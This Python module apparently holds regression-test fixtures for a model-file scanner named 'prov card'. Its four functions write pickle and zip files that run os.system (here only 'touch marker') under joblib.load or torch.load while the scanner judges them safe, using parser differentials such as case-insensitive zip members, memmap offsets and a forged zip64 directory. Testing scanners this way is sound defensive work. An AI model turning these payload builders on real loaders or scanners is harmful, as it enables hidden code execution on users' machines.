"""Files an attacker built against `prov card` in issue 16's fifth attack round, as makers: each ran
os.system under some loader (joblib.load, torch.load's zip reader, joblib.load(mmap_mode=...)) and was once
inspected as safe. Adapted from the attacker's scripts: ``make_fN(path, marker)`` writes the file."""

from __future__ import annotations

# ruff: noqa


def make_f1(path, marker):
    """joblib.load runs os.system; prov judges only the torch-legacy reading because the first pickle's
    root equals torch's legacy MAGIC_NUMBER."""
    import pickle, struct, io, sys
    import numpy as np

    MAGIC = 0x1950A86A20F9469CFC6C

    # state dict for the wrapper, pickled by the real pickler then spliced (protocol 2, no frames)
    class W:
        pass

    state = {"subclass": np.ndarray, "shape": (2,), "order": "C", "dtype": np.dtype("u1"), "allow_mmap": False}
    st = pickle.dumps(state, protocol=2)
    assert st[:2] == b"\x80\x02" and st[-1:] == b"."
    st = st[2:-1]
    # the memo indices in st start at 0; we use no other memo entries

    def long1(n):
        b = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
        return b"\x8a" + bytes([len(b)]) + b

    cmd = b"touch " + str(marker).encode()
    evil = (
        b"cposix\nsystem\n" + b"\x8c" + bytes([len(cmd)]) + cmd + b"\x85" + b"R"
    )  # GLOBAL, SHORT_BINUNICODE, TUPLE1, REDUCE
    first = (
        b"\x80\x02"
        + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
        + b")"
        + b"\x81"  # EMPTY_TUPLE NEWOBJ
        + st
        + b"b"  # state, BUILD -> joblib reads 2 raw bytes
        + b"C"
        + bytes([len(evil)])  # raw bytes for joblib; SHORT_BINBYTES header for pickle
        + evil
        + b"00"
        + long1(MAGIC)
        + b"."
    )
    rest = (
        pickle.dumps(1001, protocol=2)
        + pickle.dumps(
            {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}},
            protocol=2,
        )
        + pickle.dumps({"weights": [1.0, 2.0]}, protocol=2)
        + pickle.dumps([], protocol=2)
    )
    open(path, "wb").write(first + rest)


def make_f2(path, marker):
    """torch.load's zip reader (miniz) finds "archive/data.pkl" case-insensitively; prov reads only members
    whose Python name ends with the lowercase ".pkl"."""
    import pickle, sys, zipfile

    cmd = b"touch " + str(marker).encode()
    evil = b"\x80\x02cposix\nsystem\n\x8c" + bytes([len(cmd)]) + cmd + b"\x85R."
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.PKL", evil)  # what torch.load unpickles
        z.writestr("archive/decoy.pkl", pickle.dumps({"w": [1.0, 2.0]}, protocol=2))  # what prov reads
        z.writestr("archive/version", "3\n")


def make_f3(path, marker):
    """joblib.load(path, mmap_mode='r') memmaps an object-dtype NumpyArrayWrapper (allow_mmap=True) and skips
    8*count bytes; prov instead parses a nested pickle there, in which the skipped-to bytes are a str literal."""
    import pickle, sys
    import numpy as np

    evil = "cposix\nsystem\n(Vtouch " + str(marker) + "\ntR."  # protocol-0 opcodes: ASCII only
    nested = pickle.dumps(np.array([evil], dtype=object), protocol=2)
    pos = nested.index(evil.encode())
    pad = (-(pos)) % 8
    nested = (
        nested[:2] + (b"K\x000" + b"N0" * ((pad - 3) // 2) if pad % 2 else b"N0" * (pad // 2)) + nested[2:]
    )  # no-op opcodes
    pos = nested.index(evil.encode())
    if pos % 8:
        raise SystemExit(f"alignment {pos}")
    count = pos // 8
    state = {"subclass": np.ndarray, "shape": (count,), "order": "C", "dtype": np.dtype(object), "allow_mmap": True}
    st = pickle.dumps(state, protocol=2)[2:-1]
    head = b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + st + b"b"
    # align the array start to 16 bytes (else joblib warns with the memmap's repr, which dereferences its pointers)
    pad = (-len(head)) % 16
    noop = (b"K\x000" + b"N0" * ((pad - 3) // 2)) if pad % 2 else b"N0" * (pad // 2)
    head = head[:2] + noop + head[2:]
    assert len(head) % 16 == 0
    data = head + nested + b"."
    open(path, "wb").write(data)


def make_f4(path, marker):
    """A zip whose central directory is one thing to Python's zipfile (prov) and another to miniz 3.0.2
    (torch.load's PyTorchStreamReader). Python reads the zip64 end record only from just before the zip64
    locator and, when that is not one, uses the 32-bit end record; miniz then follows the locator's offset
    to a zip64 end record elsewhere. Physical layout:
      [L0 evil archive/data.pkl][L1 archive/decoy.pkl][L2 archive/version][L3 x][EOCD64_B]
      [C0 data.pkl][C1 decoy.pkl][C2 version][X = central entry 'x' whose comment ends with the locator][EOCD]
    Python: EOCD -> CD_A = C1,C2,X.   miniz: locator -> EOCD64_B -> CD_B = C0,C1,C2."""
    import pickle, struct, sys, zlib

    cmd = b"touch " + str(marker).encode()
    evil = b"\x80\x02cposix\nsystem\n\x8c" + bytes([len(cmd)]) + cmd + b"\x85R."
    members = [
        ("archive/data.pkl", evil),
        ("archive/decoy.pkl", pickle.dumps({"w": [1.0, 2.0]}, protocol=2)),
        ("archive/version", b"3\n"),
        ("x", b"x"),
    ]
    buf = bytearray()
    offsets = {}

    def local(name, data):
        n = name.encode()
        crc = zlib.crc32(data)
        offsets[name] = len(buf)
        buf.extend(
            struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(n), 0) + n + data
        )

    def central(name, data, comment=b""):
        n = name.encode()
        crc = zlib.crc32(data)
        return (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                0,
                0,
                0x21,
                crc,
                len(data),
                len(data),
                len(n),
                0,
                len(comment),
                0,
                0,
                0,
                offsets[name],
            )
            + n
            + comment
        )

    for name, data in members:
        local(name, data)
    eocd64_b = len(buf)
    buf.extend(b"\0" * 56)  # filled below
    c0 = central(*members[0])
    c1 = central(*members[1])
    c2 = central(*members[2])
    cd_b_start = len(buf)
    buf.extend(c0)
    c1_start = len(buf)
    buf.extend(c1)
    buf.extend(c2)
    cd_b_end = len(buf)
    locator = struct.pack("<IIQI", 0x07064B50, 0, eocd64_b, 1)
    x = central("x", b"x", comment=b"\0" * 9 + locator)
    assert len(x) == 76, len(x)
    buf.extend(x)
    eocd = len(buf)
    buf.extend(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 3, 3, eocd - c1_start, c1_start, 0))
    buf[eocd64_b : eocd64_b + 56] = struct.pack(
        "<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 3, 3, cd_b_end - cd_b_start, cd_b_start
    )
    open(path, "wb").write(bytes(buf))
